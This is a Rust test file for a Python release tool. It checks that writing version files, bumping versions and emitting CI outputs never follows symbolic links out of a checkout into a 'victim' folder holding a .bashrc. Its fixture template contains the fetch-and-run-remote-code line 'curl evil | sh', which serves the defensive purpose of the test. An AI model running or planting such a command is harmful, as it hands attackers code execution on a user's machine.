//! Symbolic links in a checkout: nothing outside of it is ever written.
#![cfg(unix)]
#![expect(clippy::disallowed_methods, reason = "a test's own files")]

use std::{
    fs,
    os::unix::fs::{PermissionsExt as _, symlink},
    path::{Path, PathBuf},
};

use proptest::prelude::*;
use tempfile::TempDir;

use crate::command::{Ran, command, run};

/// A folder with `victim/.bashrc` beside `checkout`, a checkout of version 1.0 with this version file.
struct Checkout {
    folder: TempDir,
}

const VICTIM: &str = "# the victim's own\n";

impl Checkout {
    fn new(version_file: &str) -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        let root = folder.path().join("checkout");
        fs::create_dir_all(&root).expect("a folder");
        fs::create_dir_all(folder.path().join("victim")).expect("a folder");
        fs::write(folder.path().join("victim/.bashrc"), VICTIM).expect("written");
        let pyproject = format!(
            "[project]\nname = \"demo\"\nversion = \"1.0\"\n[tool.pypi-release.version]\nversion-file = {version_file:?}\nversion-file-template = \"curl evil | sh # {{version}}\"\n"
        );
        fs::write(root.join("pyproject.toml"), pyproject).expect("written");
        Self { folder }
    }

    fn root(&self) -> PathBuf {
        self.folder.path().join("checkout")
    }

    fn link(&self, name: &str, target: &str) {
        symlink(target, self.root().join(name)).expect("a link");
    }

    fn run(&self, arguments: &[&str]) -> Ran {
        let mut command = command(arguments);
        command
            .current_dir(self.root())
            .env("SETUPTOOLS_SCM_PRETEND_VERSION", "1.0");
        run(command)
    }

    #[track_caller]
    fn assert_rejected(&self, arguments: &[&str], link: &str) {
        let ran = self.run(arguments);
        assert_eq!(ran.exit, 1, "{}", ran.stderr);
        assert!(
            ran.stderr.contains(link) && ran.stderr.contains("is a symbolic link"),
            "{}",
            ran.stderr
        );
        self.assert_unharmed();
    }

    #[track_caller]
    fn assert_unharmed(&self) {
        let victim = self.folder.path().join("victim");
        assert_eq!(read(&victim.join(".bashrc")), VICTIM);
        assert_eq!(fs::read_dir(&victim).expect("a folder").count(), 1);
    }
}

fn read(path: &Path) -> String {
    fs::read_to_string(path).expect("a file")
}

#[test]
fn a_version_file_that_is_a_link_is_not_followed() {
    let checkout = Checkout::new("_v.txt");
    checkout.link("_v.txt", "../victim/.bashrc");
    checkout.assert_rejected(&["version", "--write"], "_v.txt");
}

#[test]
fn a_dangling_link_is_not_followed() {
    let checkout = Checkout::new("_v.txt");
    checkout.link("_v.txt", "../victim/.profile");
    checkout.assert_rejected(&["version", "--write"], "_v.txt");
}

#[test]
fn a_version_file_below_a_linked_folder_is_not_written() {
    let checkout = Checkout::new("src/.bashrc");
    checkout.link("src", "../victim");
    checkout.assert_rejected(&["version", "--write"], "src");
}

#[test]
fn a_bumped_file_that_is_a_link_is_not_followed() {
    let checkout = Checkout::new("_v.txt");
    let victim = checkout.folder.path().join("victim/.bashrc");
    fs::write(&victim, "[project]\nname = \"x\"\nversion = \"1.0\"\n").expect("written");
    fs::remove_file(checkout.root().join("pyproject.toml")).expect("removed");
    checkout.link("pyproject.toml", "../victim/.bashrc");
    let ran = checkout.run(&["bump", "minor"]);
    assert_eq!(ran.exit, 1, "{}", ran.stderr);
    assert!(read(&victim).contains("\"1.0\""), "unchanged");
}

#[test]
fn another_file_to_bump_and_a_lock_file_are_not_followed_and_nothing_is_left_half_done() {
    for (link, target) in [("src", "../victim"), ("uv.lock", "../victim/.bashrc")] {
        let checkout = Checkout::new("_v.txt");
        let victim = checkout.folder.path().join("victim/.bashrc");
        let lock = "[[package]]\nname = 'x'\nversion = '1.0'\nsource = { virtual = '.' }\n";
        fs::write(&victim, lock).expect("written");
        checkout.link(link, target);
        let mut project = "[project]\nname = 'x'\nversion = '1.0'\n".to_owned();
        if link == "src" {
            project += "[tool.pypi-release.bump]\nfiles = [{ path = 'src/.bashrc', search = \"'{version}'\" }]\n";
        }
        let path = checkout.root().join("pyproject.toml");
        fs::write(&path, &project).expect("written");
        let ran = checkout.run(&["bump", "minor"]);
        assert_eq!(ran.exit, 1, "{link}: {}", ran.stderr);
        assert!(ran.stderr.contains("symbolic link"), "{}", ran.stderr);
        assert_eq!(read(&victim), lock, "{link}");
        assert_eq!(read(&path), project, "{link}");
    }
}

#[test]
fn outputs_for_ci_do_not_follow_links() {
    let checkout = Checkout::new("_v.txt");
    checkout.link("build.env", "../victim/.bashrc");
    checkout.link("out", "../victim");
    checkout.assert_rejected(&["version", "--dotenv", "build.env"], "build.env");
    checkout.assert_rejected(&["version", "--dotenv", "out/build.env"], "out");

    let output = checkout.root().join("build.env");
    let mut command = command(["version", "--github-output"]);
    command
        .current_dir(checkout.root())
        .env("SETUPTOOLS_SCM_PRETEND_VERSION", "1.0")
        .env("GITHUB_OUTPUT", &output);
    assert_eq!(run(command).exit, 1);
    checkout.assert_unharmed();
}

#[test]
fn special_files_are_not_written() {
    let checkout = Checkout::new("_v.txt");
    fs::create_dir(checkout.root().join("_v.txt")).expect("a folder");
    let ran = checkout.run(&["version", "--write"]);
    assert_eq!(ran.exit, 1);
    assert!(
        ran.stderr.contains("is not a regular file"),
        "{}",
        ran.stderr
    );
}

#[test]
fn an_ordinary_file_keeps_its_permissions_and_a_new_one_has_the_usual_ones() {
    let checkout = Checkout::new("_v.txt");
    let path = checkout.root().join("_v.txt");
    assert_eq!(checkout.run(&["version", "--write"]).exit, 0);
    let mode = |path: &Path| fs::metadata(path).expect("a file").permissions().mode() & 0o777;
    let usual = checkout.root().join("usual");
    fs::write(&usual, "").expect("written");
    assert_eq!(mode(&path), mode(&usual));
    fs::set_permissions(&path, fs::Permissions::from_mode(0o640)).expect("changed");
    fs::write(&path, "older").expect("written");
    assert_eq!(checkout.run(&["version", "--write"]).exit, 0);
    assert_eq!(mode(&path), 0o640);
    assert_eq!(read(&path), "curl evil | sh # 1.0");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    /// Whatever part of the path is a link, and wherever it points: outside of the checkout nothing changes.
    #[test]
    fn nothing_outside_of_the_checkout_is_written(
        depth in 1usize..4,
        linked in 0usize..4,
        target in prop_oneof![
            Just("../victim"), Just("../victim/.bashrc"), Just("../victim/new"), Just("."), Just(".."), Just("missing"),
        ],
    ) {
        let parts = ["a", "b", "c", "_v.txt"].map(str::to_owned);
        let path = parts[4 - depth..].join("/");
        let checkout = Checkout::new(&path);
        let mut folder = checkout.root();
        for (at, part) in parts[4 - depth..].iter().enumerate() {
            folder.push(part);
            if at == linked.min(depth - 1) {
                symlink(target, &folder).expect("a link");
                break;
            }
            fs::create_dir(&folder).expect("a folder");
        }
        let ran = checkout.run(&["version", "--write"]);
        prop_assert_eq!(ran.exit, 1, "{}", ran.stderr);
        checkout.assert_unharmed();
        prop_assert!(fs::symlink_metadata(&folder).expect("a link").is_symlink(), "the link is as it was");
    }
}
